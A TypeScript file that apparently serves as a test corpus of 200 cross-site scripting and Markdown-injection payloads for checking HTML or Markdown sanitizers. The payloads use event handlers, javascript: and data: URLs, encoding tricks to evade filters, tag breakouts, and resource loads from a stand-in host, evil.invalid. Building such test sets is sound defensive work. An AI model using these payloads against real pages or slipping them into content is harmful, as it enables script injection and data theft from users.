// 200 texts that run code or fetch something where a page takes them for HTML or follows them. `hit` is what they call.

const hit = "hit(1)";
const remote = "https://evil.invalid/x";

/** Each runs or fetches in a browser that parses it as HTML. */
const elements = [
  `<script>${hit}</script>`,
  `<img src=x onerror=${hit}>`,
  `<img src="${remote}.png">`,
  `<svg onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe src="${remote}"></iframe>`,
  `<details open ontoggle=${hit}>x</details>`,
  `<video autoplay src="${remote}.mp4" onerror=${hit}></video>`,
  `<audio src=x onerror=${hit}>`,
  `<input autofocus onfocus=${hit}>`,
  `<style>@import "${remote}.css";</style>`,
  `<link rel=stylesheet href="${remote}.css">`,
  `<object data="${remote}"></object>`,
  `<embed src="${remote}">`,
  `<base href="${remote}">`,
  `<meta http-equiv=refresh content="0;url=${remote}">`,
  `<form action="${remote}"><button autofocus onfocus=${hit}>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<a href="javascript:${hit}">x</a>`,
  `<div style="background:url(${remote}.png)">x</div>`,
  `<template><img src=x onerror=${hit}></template>`,
];

/** Ways out of the place where a text is put, and disguises. */
const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}`,
  (payload) => `--></script></style></title></textarea>${payload}`,
  (payload) => payload.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (payload) => `\`\`\`html\n${payload}\n\`\`\`\n${payload}`,
  (payload) => `[${payload}](${remote} "${payload.replaceAll('"', "")}") ![${payload}](${remote}.png)`,
  (payload) => `| ${payload.replaceAll("|", "")} |\n|---|\n| [x](javascript:${hit}) ![y](data:text/html,${payload}) |`,
];

/** What Markdown itself can carry. */
const markdown = [
  `[click](javascript:${hit})`,
  `[click](JaVaScRiPt:${hit})`,
  `[click](java\tscript:${hit})`,
  `[click](&#106;avascript:${hit})`,
  `[click](javascript&colon;${hit})`,
  `[click](vbscript:${hit})`,
  `[click](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)`,
  `[click]( javascript:${hit})`,
  `[click](<javascript:${hit}>)`,
  `[click][ref]\n\n[ref]: javascript:${hit}`,
  `![image](${remote}.png)`,
  `![image](//evil.invalid/x.png)`,
  `![image][ref]\n\n[ref]: ${remote}.png`,
  `![image](javascript:${hit})`,
  `[![image](${remote}.png)](${remote})`,
  `<javascript:${hit}>`,
  `<${remote}>`,
  remote,
  `www.evil.invalid`,
  `[a](/key?${hit}) [b](//evil.invalid) [c](\\\\evil.invalid)`,
  `- [ ] <img src=x onerror=${hit}>`,
  `# <svg onload=${hit}>`,
  `> <img src=x onerror=${hit}>`,
  `**<img src=x onerror=${hit}>**`,
  `\u202e<img src=x onerror=${hit}>`,
];

export const payloads: readonly string[] = [
  ...elements.flatMap((element) => wrappers.map((wrap) => wrap(element))),
  ...markdown,
];
